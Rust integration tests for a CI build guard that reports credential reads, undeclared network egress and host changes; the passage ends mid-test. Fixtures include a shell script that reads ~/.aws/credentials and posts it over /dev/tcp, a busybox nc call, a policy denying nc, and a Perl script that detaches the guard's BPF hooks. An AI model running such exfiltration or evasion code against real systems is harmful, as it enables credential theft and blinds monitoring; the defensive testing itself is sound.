//! The program on real jobs and the kernel at hand. Without the rights, each test says so and passes.

mod common;

#[path = "../demo/job.rs"]
#[expect(dead_code, reason = "the demo uses all of it")]
mod job;

use std::fs;
use std::io::{BufRead as _, BufReader, Read as _};
use std::net::SocketAddrV4;
use std::os::unix::process::{CommandExt as _, ExitStatusExt as _};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::thread;

use nix::sys::signal::{Signal, kill, killpg};
use nix::unistd::Pid;
use serde_json::Value;

use common::network::Sink;
use common::{GUARD, Place, failing, findings, live, text};
use job::{Job, Manager, Package, Plan};

#[test]
fn a_theft_fails_the_job_and_is_told_alike_by_a_replay() {
    live("a_theft_fails_the_job_and_is_told_alike_by_a_replay", |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let place = Place::new("set -eu\nmake -s deps\n");
        place.write("work/Makefile", "deps:\n\t@sh vendor/setup.sh\n");
        let thief = format!(
            "bash <<'END'\nread -r -d '' body < ~/.aws/credentials\nexec 3<>/dev/tcp/{}/{}\n\
             printf 'POST / HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s' \"${{#body}}\" \"$body\" >&3\nread -r -t 10 <&3\nEND\n",
            sink.address.ip(),
            sink.address.port(),
        );
        place.write("work/vendor/setup.sh", &thief);
        let output = place.run(&[], &["bash", "build.sh"]);
        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real");
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        let report = place.report();
        let credential = place.root.path().canonicalize().unwrap().join("home/.aws/credentials");
        assert_eq!(report["verdict"], "attack");
        assert_eq!(
            failing(&report),
            [
                format!("cred-file-access {}", credential.display()),
                format!("egress-undeclared {}", sink.address)
            ]
        );
        // How much went out is counted where the connection ends.
        let body = "[default]\naws_secret_access_key = kZ9-not-a-real-one-4f";
        let request = format!("POST / HTTP/1.0\r\nContent-Length: {}\r\n\r\n{body}", body.len());
        let sent = &report["steps"][0]["destinations"][0]["sent"];
        assert_eq!(sent.as_u64(), Some(request.len() as u64), "{report:#}");
        let wanted = format!("; {} bytes sent", request.len());
        let findings = report["findings"].as_array().expect("findings");
        assert!(
            findings.iter().any(|finding| finding["title"].as_str().is_some_and(|it| it.ends_with(&wanted))),
            "{report:#}"
        );
        place.replay_is_the_same(&output);
        for entry in fs::read_dir(place.root.path().join("report")).expect("the report").flatten() {
            let written = text(&fs::read(entry.path()).expect("a file"));
            assert!(!written.contains("not-a-real-one"), "{} holds the secret", entry.path().display());
        }
    });
}

#[test]
fn bytes_are_counted_of_datagrams_and_of_connections_that_stay_open() {
    live("bytes_are_counted_of_datagrams_and_of_connections_that_stay_open", |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let (address, port) = (sink.address.ip(), sink.address.port());
        // Nobody listens for the datagrams; the ones on file 4 are over with the shell, the others are not.
        let (over, open) = (port ^ 1, port ^ 2);
        let place = Place::new(&format!(
            "exec 3<>/dev/tcp/{address}/{port} 4<>/dev/udp/{address}/{over} 5<>/dev/udp/{address}/{open}\n\
             printf '%500s' '' >&3\nprintf '%30s' '' >&4\nprintf '%7s' '' >&5\n\
             sleep 10 4>&- >/dev/null 2>&1 &\n"
        ));
        let output = place.run(&[], &["bash", "build.sh"]);
        let evidence =
            fs::read_to_string(place.root.path().join("report/evidence.jsonl")).expect("a recording");
        let mut carried: Vec<(u64, u64, &str, bool)> = Vec::new();
        for line in evidence.lines().filter(|line| line.contains("\"closed\"")) {
            let line: Value = serde_json::from_str(line).expect("JSON");
            let closed = &line;
            let to: std::net::SocketAddr = closed["to"].as_str().expect("an address").parse().expect("one");
            carried.push((
                u64::from(to.port()),
                closed["sent"].as_u64().expect("a number"),
                if closed["transport"] == "udp" { "udp" } else { "tcp" },
                closed["is_open"] == true,
            ));
        }
        carried.sort_unstable();
        let mut wanted = [
            (u64::from(port), 500, "tcp", true),
            (u64::from(over), 30, "udp", false),
            (u64::from(open), 7, "udp", true),
        ];
        wanted.sort_unstable();
        assert_eq!(carried, wanted);
        for destination in place.report()["steps"][0]["destinations"].as_array().expect("destinations") {
            assert!(destination["sent"].as_u64().is_some_and(|sent| sent > 0), "{destination}");
        }
        place.replay_is_the_same(&output);
    });
}

#[test]
fn a_clean_job_passes_its_status_on_and_is_told_alike_by_a_replay() {
    live("a_clean_job_passes_its_status_on_and_is_told_alike_by_a_replay", |_| {
        let place = Place::new("set -eu\necho built > out.txt\ncat out.txt\nexit 3\n");
        let output = place.run(&[], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
        assert_eq!(text(&output.stdout), "built\n", "what the job prints is its own");
        let report = place.report();
        assert_eq!(
            (&report["verdict"], &report["exit"]["command"]),
            (&Value::from("clean"), &Value::from(3))
        );
        assert_eq!(report["findings"], Value::Array(Vec::new()), "{report:#}");
        place.replay_is_the_same(&output);
    });
}

#[test]
fn a_policy_is_kept_beside_the_recording_and_judges_its_replay() {
    live("a_policy_is_kept_beside_the_recording_and_judges_its_replay", |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let place = Place::new(&format!(
            "touch inside\ntouch ~/outside\nexec 3<>/dev/tcp/{}/{}\nid -u >/dev/null\n",
            sink.address.ip(),
            sink.address.port()
        ));
        place.write(
            "work/.github/guard.yml",
            "version: 1\ndefaults:\n  network: {allow: [\"api.example\"]}\n  files: {allow: [\"write ./**\"], deny: [\"write ~/outside\"]}\n  run: {allow: [touch]}\n",
        );
        let output = place.run(&[], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        let root = place.root.path().canonicalize().unwrap();
        let program =
            ["/usr/bin/id", "/bin/id"].iter().find_map(|path| fs::canonicalize(path).ok()).expect("id");
        let mut wanted = [
            format!("egress-undeclared {}", sink.address),
            format!("file-undeclared {}", root.join("home/outside").display()),
            format!("run-undeclared {}", program.display()),
        ];
        wanted.sort();
        assert_eq!(failing(&place.report()), wanted);
        place.replay_is_the_same(&output);

        // The command line beats the file, in the replay as well.
        let output = place.run(&["--fail-on", "none"], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        assert_eq!(place.report()["verdict"], "divergence");
        place.replay_is_the_same(&output);
    });
}

#[test]
fn a_program_is_known_by_its_content() {
    live("a_program_is_known_by_its_content", |_| {
        let place = Place::new(
            "./tool\ncp tool other\n./other\nsleep 1\necho '# changed' >> other\n./other\ncp /bin/true t\n./t\n",
        );
        let script = "#!/bin/sh\nexit 0\n";
        place.write("work/tool", script);
        let tool = place.root.path().join("work/tool");
        fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("executable");
        let digest = |bytes: &[u8]| {
            use sha2::Digest as _;
            edamame_guard::event::hex(&sha2::Sha256::digest(bytes))
        };
        let program = fs::read("/bin/true").expect("true");
        place.write(
            "work/.github/guard.yml",
            &format!(
                "version: 1\ndefaults:\n  run: {{allow: [cp, sleep, \"sha256:{}\", \"sha256:{}\"]}}\n",
                digest(script.as_bytes()),
                digest(&program)
            ),
        );
        let output = place.run(&[], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        let report = place.report();
        // The copy passes by content; the changed copy is another program of the same name.
        let other = place.root.path().canonicalize().unwrap().join("work/other");
        assert_eq!(failing(&report), [format!("run-undeclared {}", other.display())]);
        assert_eq!(report["findings"][0]["count"], 1, "{report:#}");
        let shell = fs::read(fs::canonicalize("/bin/sh").expect("a shell")).expect("a shell");
        assert_eq!(report["findings"][0]["process"]["sha256"], digest(&shell));
        place.replay_is_the_same(&output);
    });
}

#[test]
fn a_change_of_the_hosts_state_is_tied_to_who_made_it() {
    live("a_change_of_the_hosts_state_is_tied_to_who_made_it", |_| {
        let place = Place::new("echo 'export A=1' >> ~/.bashrc\nmake -s\n");
        place
            .write("work/Makefile", "all:\n\techo 'index-url = http://packages.example/' > $(HOME)/.npmrc\n");
        let output = place.run(&[], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        let report = place.report();
        let home = place.root.path().join("home").canonicalize().unwrap();
        let npmrc = home.join(".npmrc").display().to_string();
        let drift = report["posture"]["drift"].as_array().expect("changes");
        let told = |file: &str| {
            let object = home.join(file).display().to_string();
            drift.iter().find(|drift| drift["object"] == object.as_str()).expect("a change")
        };
        // The step says so itself; a recipe's write to the home is worth a note.
        assert_eq!(told(".bashrc")["explained"], "named at build.sh:1", "{report:#}");
        assert!(told(".npmrc")["explained"].is_null(), "{report:#}");
        let notes = report["findings"].as_array().expect("findings");
        assert!(
            notes.iter().any(|note| note["rule"] == "posture-drift"
                && note["object"] == npmrc.as_str()
                && note["severity"] == "low"
                && note["process"]["exe"].as_str().is_some_and(|image| image.ends_with("sh"))),
            "{report:#}"
        );
        place.replay_is_the_same(&output);
        place.write(
            "work/.github/guard.yml",
            "version: 1\ndefaults: {posture: {allow: [package-configuration]}}\n",
        );
        place.write("home/.npmrc", "other\n");
        let output = place.run(&[], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        assert!(!place.report()["findings"].to_string().contains("posture-drift"));
    });
}

#[test]
fn exit_statuses_are_those_of_the_table() {
    live("exit_statuses_are_those_of_the_table", |_| {
        let place = Place::new("exit 7\n");
        place.write("work/plain.txt", "no program\n");
        // A shell runs a text without `#!` itself, and so do we; a program for another machine is no text.
        place.write("work/plain", "exit $(($1 + 2))\n");
        place.write("work/alien", "\u{7f}ELF\0\0\n");
        place.write("bin/on-the-path", "exit 6\n");
        for file in ["work/plain", "work/alien", "bin/on-the-path"] {
            let file = place.root.path().join(file);
            fs::set_permissions(file, std::os::unix::fs::PermissionsExt::from_mode(0o755))
                .expect("executable");
        }
        for (job, status) in [
            (&["true"][..], 0),
            (&["bash", "build.sh"], 7),
            (&["sh", "-c", "exit 255"], 255),
            (&["sh", "-c", "kill -TERM $$"], 128 + 15),
            (&["sh", "-c", "kill -INT $$"], 128 + 2),
            (&["sh", "-c", "kill -KILL $$"], 128 + 9),
            (&["./plain.txt"], 126),
            (&["./plain", "2"], 4),
            (&["./alien"], 126),
            (&["on-the-path"], 6),
            (&["/"], 126),
            (&["no-such-program"], 127),
            (&["./missing"], 127),
        ] {
            let output = place.run(&[], job);
            assert_eq!(output.status.code(), Some(status), "{job:?}: {}", text(&output.stderr));
            if matches!(status, 126 | 127) {
                let said = text(&output.stderr);
                assert!(said.starts_with(&format!("error: cannot run `{}`: ", job[0])), "{job:?}: {said}");
            }
        }
        // What such a text says is declared like any other.
        place.write("work/plain", "cat ~/.aws/credentials\n");
        let output = place.run(&[], &["./plain"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        assert_eq!(place.report()["findings"], Value::Array(Vec::new()), "{:#}", place.report());
        // Signals of the job stand in the report as well.
        place.run(&[], &["sh", "-c", "kill -TERM $$"]);
        let report = place.report();
        assert_eq!((&report["exit"]["signal"], &report["exit"]["command"]), (&Value::from(15), &Value::Null));
    });
}

#[test]
fn a_job_that_blinds_the_guard_fails() {
    live("a_job_that_blinds_the_guard_fails", |_| {
        let place = Place::new("exec perl ../blind.pl\n");
        // BPF_LINK_GET_FD_BY_ID, then BPF_LINK_DETACH, on whatever the guard holds.
        let script = r"
            for my $file (glob '/proc/' . getppid() . '/fdinfo/*') {
                open(my $info, '<', $file) or next;
                my $text = join '', <$info>;
                my ($number) = $text =~ /link_type:\s*cgroup.*link_id:\s*(\d+)/s or next;
                my $ask = pack('L', $number) . (chr(0) x 60);
                my $link = syscall(NUMBER, 30, $ask, 64);
                my $detach = pack('L', $link) . (chr(0) x 60);
                syscall(NUMBER, 34, $detach, 64) == 0 or die $!;
            }
        ";
        place.write("blind.pl", &script.replace("NUMBER", &nix::libc::SYS_bpf.to_string()));
        let output = place.run(&[], &["bash", "build.sh"]);
        let report = place.report();
        assert_eq!(output.status.code(), Some(125), "{}", text(&output.stderr));
        assert_eq!(report["coverage"]["state"], "blind");
        let failing = failing(&report);
        for hook in ["connect4", "connect6", "sendmsg4", "sendmsg6", "dns-answer"] {
            assert!(failing.contains(&format!("coverage-hook {hook}")), "{failing:?}");
        }
        place.replay_is_the_same(&output);
    });
}

#[test]
fn a_guard_that_cannot_do_its_work_starts_nothing() {
    live("a_guard_that_cannot_do_its_work_starts_nothing", |_| {
        let place = Place::new("");
        place.write("work/bad.yml", "version: 2\n");
        place.write("work/block.yml", "version: 1\nmode: block\n");
        std::os::unix::fs::symlink("work", place.root.path().join("link")).expect("a link");
        for (options, status) in [
            (&["--policy", "bad.yml"][..], 125),
            (&["--policy", "missing.yml"], 125),
            (&["--policy", "block.yml"], 125),
            (&["--mode", "block"], 125),
            (&["--report-dir", "../link"], 125),
            (&["--sensor", "seccomp"], 2),
        ] {
            let words = [&["run"], options, &["--", "touch", "ran"]].concat();
            let output = place.command(&words).output().expect("the guard starts");
            assert_eq!(output.status.code(), Some(status), "{options:?}: {}", text(&output.stderr));
            assert!(!place.root.path().join("work/ran").exists(), "{options:?}");
        }
    });
}

/// A job that says when it runs and then waits to be ended.
fn waiting(place: &Place, in_group: bool) -> Child {
    let mut command = place.command(&[
        "run",
        "--report-dir",
        "../report",
        "--",
        "sh",
        "-c",
        "echo running; exec sleep 100",
    ]);
    if in_group {
        command.process_group(0);
    }
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("the guard starts");
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().expect("piped")).read_line(&mut line).expect("a line");
    assert_eq!(line, "running\n", "{child:?}");
    child
}

fn ended(mut child: Child) -> (Option<i32>, String) {
    let mut said = String::new();
    child.stderr.take().expect("piped").read_to_string(&mut said).expect("UTF-8");
    let status = child.wait().expect("a status");
    assert_eq!(status.signal(), None, "the guard itself ends in order: {said}");
    (status.code(), said)
}

#[test]
fn a_signal_ends_the_job_and_the_reports_are_still_written() {
    live("a_signal_ends_the_job_and_the_reports_are_still_written", |_| {
        let place = Place::new("");
        // A runner that cancels a job asks the guard to stop; it hands that on.
        let child = waiting(&place, false);
        kill(Pid::from_raw(i32::try_from(child.id()).unwrap()), Signal::SIGTERM).expect("sent");
        assert_eq!(ended(child).0, Some(128 + 15));
        assert_eq!(place.report()["exit"]["signal"], 15);
        // Who has no terminal and interrupts us alone means the job.
        for signal in [Signal::SIGINT, Signal::SIGHUP, Signal::SIGQUIT] {
            let child = waiting(&place, false);
            kill(Pid::from_raw(i32::try_from(child.id()).unwrap()), signal).expect("sent");
            let (status, said) = ended(child);
            assert_eq!(status, Some(128 + signal as i32), "{said}");
            assert_eq!(place.report()["exit"]["signal"], signal as i32);
        }
        // A terminal sends Ctrl-C to everybody in the foreground.
        let child = waiting(&place, true);
        killpg(Pid::from_raw(i32::try_from(child.id()).unwrap()), Signal::SIGINT).expect("sent");
        let (status, said) = ended(child);
        assert_eq!(status, Some(128 + 2), "{said}");
        assert_eq!(place.report()["exit"]["signal"], 2);
    });
}

#[test]
fn a_signal_that_means_nothing_to_us_ends_nothing() {
    live("a_signal_that_means_nothing_to_us_ends_nothing", |_| {
        let place = Place::new("");
        let child = waiting(&place, false);
        let guard = Pid::from_raw(i32::try_from(child.id()).unwrap());
        for signal in Signal::iterator() {
            let is_odd = !matches!(
                signal,
                Signal::SIGKILL
                    | Signal::SIGSTOP
                    | Signal::SIGTSTP
                    | Signal::SIGTTIN
                    | Signal::SIGTTOU
                    | Signal::SIGTERM
                    | Signal::SIGINT
                    | Signal::SIGHUP
                    | Signal::SIGQUIT
                    // Faults of a program.
                    | Signal::SIGSEGV
                    | Signal::SIGBUS
                    | Signal::SIGFPE
                    | Signal::SIGILL
                    | Signal::SIGTRAP
                    | Signal::SIGABRT
                    | Signal::SIGSYS
            );
            if is_odd {
                kill(guard, signal).expect("sent");
            }
        }
        // Real-time signals have no name.
        let script = "for my $n (34 .. 64) { kill $n, $ARGV[0] or die $! }";
        let sent = Command::new("perl").args(["-e", script, &guard.to_string()]).status().expect("perl");
        assert!(sent.success());
        thread::sleep(std::time::Duration::from_millis(200));
        kill(guard, Signal::SIGTERM).expect("it is still there");
        let (status, said) = ended(child);
        assert_eq!(status, Some(128 + 15), "{said}");
        assert_eq!(place.report()["coverage"]["state"], "full", "{said}");
    });
}

#[test]
fn the_applet_of_a_multi_call_program_is_what_is_judged() {
    live("the_applet_of_a_multi_call_program_is_what_is_judged", |network| {
        let Some(busybox) =
            ["/bin/busybox", "/usr/bin/busybox"].into_iter().find(|path| Path::new(path).exists())
        else {
            println!("skipped: the_applet_of_a_multi_call_program_is_what_is_judged needs busybox");
            return;
        };
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let place = Place::new(&format!("{busybox} true\n./vendor.sh\n"));
        place.write(
            "work/vendor.sh",
            &format!(
                "#!/bin/sh\n{busybox} nc -w 1 {} {} </dev/null\n",
                sink.address.ip(),
                sink.address.port()
            ),
        );
        let script = place.root.path().join("work/vendor.sh");
        fs::set_permissions(script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("executable");
        place.write("policy.yml", "version: 1\ndefaults:\n  run: {deny: [nc]}\n");
        let output = place.run(&["--policy", "../policy.yml"], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        let real = fs::canonicalize(busybox).expect("busybox");
        assert!(
            failing(&place.report()).contains(&format!("run-undeclared {}", real.display())),
            "{:#}",
            place.report()
        );
        place.replay_is_the_same(&output);
        // A launcher needs no entry, but what it launches inside itself does.
        place.write("policy.yml", "version: 1\ndefaults:\n  run: {allow: [\"true\", vendor.sh]}\n");
        let output = place.run(&["--policy", "../policy.yml"], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        place.write("policy.yml", "version: 1\ndefaults:\n  run: {allow: [vendor.sh]}\n");
        let output = place.run(&["--policy", "../policy.yml"], &["bash", "build.sh"]);
        assert_eq!(failing(&place.report()), [format!("run-undeclared {}", real.display())]);
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
    });
}

#[test]
fn a_storm_of_launches_is_in_the_record_with_every_argument() {
    const LAUNCHES: usize = 1_000;
    live("a_storm_of_launches_is_in_the_record_with_every_argument", |_| {
        let place = Place::new("perl storm.pl\n");
        place.write(
            "work/storm.pl",
            &format!("for my $n (1 .. {LAUNCHES}) {{ my $pid = fork; if (!$pid) {{ exec '/bin/true', 'storm', $n }} waitpid $pid, 0 if $n % 8 == 0 }}\n1 while wait != -1;\n"),
        );
        let output = place.run(&[], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        let evidence =
            fs::read_to_string(place.root.path().join("report/evidence.jsonl")).expect("the record");
        let mut seen = vec![0; LAUNCHES + 1];
        for line in evidence.lines() {
            let record: Value = serde_json::from_str(line).expect("JSON");
            if record["activity"] != "launch" {
                continue;
            }
            if let [_, word, number] = record["arguments"].as_array().expect("arguments").as_slice()
                && word == "storm"
            {
                seen[number.as_str().expect("a word").parse::<usize>().expect("a number")] += 1;
            }
        }
        assert!(seen[1..].iter().all(|count| *count == 1), "{seen:?}");
        let report = place.report();
        assert_eq!(report["coverage"]["lost_events"], 0);
        assert!(report["steps"][0]["processes"].as_u64().expect("a count") > LAUNCHES as u64);
        place.replay_is_the_same(&output);
    });
}

/// The demo's job, poisoned and honest.
fn demo(test: &str, manager: Manager) {
    live(test, |network| {
        if !Manager::installed().contains(&manager) {
            println!("skipped: {test} needs {}", manager.name());
            return;
        }
        let seed = fastrand::u64(..);
        println!("{test}: seed {seed}");
        let mut random = fastrand::Rng::with_seed(seed);
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let plan = Plan::random(&mut random, manager, sink.address);
        for package in [Package::Poisoned, Package::Honest] {
            let root = tempfile::tempdir().expect("a folder");
            let job = Job::make(root.path(), &plan, package).expect("a job");
            let report = root.path().join("report");
            let output = job.under(Path::new(GUARD), &report).output().expect("the guard starts");
            let received = text(&sink.take());
            let said = format!("seed {seed}, {package:?}: {}", text(&output.stderr));
            match package {
                Package::Poisoned => {
                    assert!(plan.credential.secrets.iter().all(|secret| received.contains(secret)), "{said}");
                    assert_eq!(output.status.code(), Some(86), "{said}");
                    let credential = job.credential.display();
                    let wanted = [
                        format!("cred-file-access {credential}"),
                        format!("egress-undeclared {}", sink.address),
                    ];
                    // What pip builds and runs in its own folder is told as well.
                    let mut told = failing(&findings(&report));
                    told.retain(|finding| !finding.starts_with("install-script "));
                    assert_eq!(told, wanted, "{said}");
                }
                Package::Honest => {
                    assert_eq!((output.status.code(), received.as_str()), (Some(0), ""), "{said}");
                    assert_eq!(findings(&report)["findings"], Value::Array(Vec::new()), "{said}");
                }
            }
        }
    });
}

#[test]
fn a_poisoned_package_is_caught_under_npm() {
    demo("a_poisoned_package_is_caught_under_npm", Manager::Npm);
}

#[test]
fn a_poisoned_package_is_caught_under_pip() {
    demo("a_poisoned_package_is_caught_under_pip", Manager::Pip);
}

#[test]
fn a_poisoned_package_is_caught_under_make() {
    demo("a_poisoned_package_is_caught_under_make", Manager::Make);
}

/// A job that takes long enough to be seen by a sensor that only looks now and then.
fn slow_theft(place: &Place, sink: &Sink) {
    place.write("work/Makefile", "deps:\n\t@sh vendor/setup.sh\n");
    let thief = format!(
        "exec bash <<'END'\nexec 4< ~/.aws/credentials\nread -r -d '' body <&4\nsleep 0.2\nexec 3<>/dev/tcp/{}/{}\n\
         printf 'POST / HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s' \"${{#body}}\" \"$body\" >&3\nsleep 0.3\nEND\n",
        sink.address.ip(),
        sink.address.port(),
    );
    place.write("work/vendor/setup.sh", &thief);
}

#[test]
fn without_kernel_events_an_honest_job_is_quiet_and_never_clean() {
    live("without_kernel_events_an_honest_job_is_quiet_and_never_clean", |_| {
        let place = Place::new(
            "set -eu\nsleep 0.1\necho built > out.txt\n(sleep 0.3; cat out.txt) &\nwait\nexit 3\n",
        );
        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
        let report = place.report();
        assert_eq!(report["verdict"], "partial");
        assert_eq!(
            (&report["coverage"]["state"], &report["coverage"]["sensor"]),
            (&"partial".into(), &"procfs".into())
        );
        assert_eq!(report["coverage"]["process"], "polled");
        assert_eq!(report["findings"], Value::Array(Vec::new()), "{report:#}");
        assert!(report["coverage"]["gaps"].to_string().contains("measured on"), "{report:#}");
        place.replay_is_the_same(&output);
    });
}

#[test]
fn without_kernel_events_a_slow_theft_is_seen() {
    live("without_kernel_events_a_slow_theft_is_seen", |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let place = Place::new("set -eu\nmake -s deps\n");
        slow_theft(&place, &sink);
        // Three times: what it sees must not hang on the moment.
        for _ in 0..2 {
            place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
            assert_eq!(failing(&place.report()).len(), 2, "{:#}", place.report());
        }
        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real");
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        let credential = place.root.path().canonicalize().unwrap().join("home/.aws/credentials");
        let wanted = [
            format!("cred-file-access {}", credential.display()),
            format!("egress-undeclared {}", sink.address),
        ];
        assert_eq!(failing(&place.report()), wanted);
        place.replay_is_the_same(&output);

        // A grandchild that left its session and lost its parent is still the job's.
        place.write("work/Makefile", "deps:\n\t@setsid sh -c 'sh vendor/setup.sh & exit'; sleep 1\n");
        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        assert_eq!(failing(&place.report()), wanted);
    });
}

#[test]
fn without_rights_auto_says_so_first_and_an_explicit_choice_is_kept() {
    live("without_rights_auto_says_so_first_and_an_explicit_choice_is_kept", |_| {
        let place = Place::new("sleep 0.1\n");
        let folder = place.root.path();
        fs::copy(GUARD, folder.join("guard")).expect("a copy that anybody can run");
        for path in ["", "home", "work"] {
            let mode = std::os::unix::fs::PermissionsExt::from_mode(0o777);
            fs::set_permissions(folder.join(path), mode).expect("open to all");
        }
        for (options, status, opening) in [
            (&[][..], 0, "warning: kernel events are not to be had here"),
            (&["--on-unsupported", "skip"], 0, "notice: kernel events are not to be had here"),
            (&["--sensor", "procfs"], 0, "evidence: signed by ed25519 key "),
            (&["--on-unsupported", "fail"], 125, "error: not permitted"),
            (&["--sensor", "ebpf"], 125, "error: not permitted"),
            (&["--sensor", "seccomp"], 2, "error: the sensor `seccomp`"),
        ] {
            let output = Command::new("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
                .arg(folder.join("guard"))
                .args(["run", "--report-dir", "../report-nobody"])
                .args(options)
                .args(["--", "sh", "-c", "sleep 0.1; touch ran"])
                .env_clear()
                .env("HOME", folder.join("home"))
                .env("PATH", "/usr/bin:/bin")
                .current_dir(folder.join("work"))
                .output()
                .expect("setpriv");
            let said = text(&output.stderr);
            assert_eq!(output.status.code(), Some(status), "{options:?}: {said}");
            assert!(said.starts_with(opening), "{options:?}: {said}");
            let ran = folder.join("work/ran");
            assert_eq!(ran.exists(), status == 0, "{options:?}");
            if status == 0 {
                fs::remove_file(ran).expect("removed");
                assert_eq!(findings(&folder.join("report-nobody"))["verdict"], "partial");
            }
        }
    });
}

#[test]
fn connections_from_before_are_listed_and_no_finding() {
    live("connections_from_before_are_listed_and_no_finding", |network| {
        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
        let before = std::net::TcpStream::connect(sink.address).expect("a connection");
        let local = before.local_addr().expect("an address").to_string();
        for sensor in ["ebpf", "procfs"] {
            let place = Place::new("sleep 0.2\n");
            // The job gets the connection as its standard input, too.
            let output = place
                .command(&["run", "--report-dir", "../report", "--sensor", sensor, "--", "bash", "build.sh"])
                .stdin(std::os::fd::OwnedFd::from(before.try_clone().expect("a copy")))
                .output()
                .expect("the guard starts");
            let said = text(&output.stderr);
            assert_eq!(output.status.code(), Some(0), "{said}");
            let report = place.report();
            assert_eq!(report["findings"], Value::Array(Vec::new()), "{report:#}");
            let sockets = report["sockets_before"].as_array().expect("sockets");
            let told = sockets.iter().find(|socket| socket["local"] == local.as_str()).expect("ours");
            assert_eq!(told["remote"], sink.address.to_string());
            let owner = u64::from(std::process::id());
            let owners = told["owners"].as_array().expect("owners");
            assert!(owners.iter().any(|told| told["pid"] == owner), "{told}");
            assert!(said.contains("open before the start"), "{said}");
            place.replay_is_the_same(&output);
        }
    });
}

#[test]
fn thousands_of_processes_and_threads_are_too_many_for_nobody() {
    live("thousands_of_processes_and_threads_are_too_many_for_nobody", |_| {
        let place = Place::new("perl crowd.pl\npython3 threads.py\n");
        place.write("work/crowd.pl", "my @all; for (1..2000) { my $p = fork; if (!$p) { sleep 60; exit } push @all, $p } sleep 2; kill 9, @all; 1 while wait != -1;\n");
        place.write("work/threads.py", "import threading, time\nall = [threading.Thread(target=time.sleep, args=(0.5,)) for _ in range(200)]\n[t.start() for t in all]\n[t.join() for t in all]\n");
        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        let report = place.report();
        let processes = report["steps"][0]["processes"].as_u64().expect("a count");
        assert!((2000..2100).contains(&processes), "threads are no processes: {processes}");
        assert_eq!(report["verdict"], "partial", "{report:#}");
    });
}

/// What docs/sensors.md says of the polled sensor; the floor is far below what was measured.
#[test]
#[ignore = "takes a minute, and wants an idle machine"]
fn how_much_is_seen_without_kernel_events() {
    live("how_much_is_seen_without_kernel_events", |network| {
        let server = std::net::TcpListener::bind((network.address, 0)).expect("a server");
        let port = server.local_addr().expect("an address").port();
        thread::spawn(move || server.incoming().collect::<Vec<_>>());
        let place = Place::new("");
        place.write(
            "work/true.pl",
            "for (1..1000) { my $p = fork; if (!$p) { exec '/bin/true' } waitpid $p, 0 }\n",
        );
        place.write("work/open.pl", "use Time::HiRes 'usleep'; my ($n, $ms) = @ARGV; for my $i (1..$n) { my $p = fork; if (!$p) { open(my $f, '>', \"f$i\"); usleep($ms * 1000) if $ms; exit } waitpid $p, 0 }\n");
        place.write("work/connect.pl", "use Time::HiRes 'usleep'; use IO::Socket::INET; my ($n, $ms, $to) = @ARGV; for (1..$n) { my $p = fork; if (!$p) { my $s = IO::Socket::INET->new(PeerAddr => $to); usleep($ms * 1000) if $ms; exit } waitpid $p, 0 }\n");
        let seen = |job: &[&str], mark: &str| {
            place.run(&["--sensor", "procfs", "--fail-on", "none"], job);
            let record =
                fs::read_to_string(place.root.path().join("report/evidence.jsonl")).expect("the record");
            record.lines().filter(|line| line.contains(mark) && !line.contains(".pl\"")).count()
        };
        println!("true: {} of 1000", seen(&["perl", "true.pl"], "\"arguments\":[\"/bin/true\""));
        let to = format!("{}:{port}", network.address);
        for ms in ["0", "1", "3", "10", "100"] {
            let opened = seen(&["perl", "open.pl", "100", ms], "/work/f");
            let connected = seen(&["perl", "connect.pl", "100", ms, &to], "\"activity\":\"connect\"");
            println!("held {ms} ms: {opened} of 100 files, {connected} of 100 connections");
            assert!(ms != "100" || (opened >= 90 && connected >= 90));
        }
    });
}

#[test]
fn a_change_of_the_hosts_state_is_told_while_it_happens() {
    live("a_change_of_the_hosts_state_is_told_while_it_happens", |_| {
        let place = Place::new("make\n");
        place.write("home/.gitconfig", "[user]\n\tname = u\n");
        place.write(
            "work/Makefile",
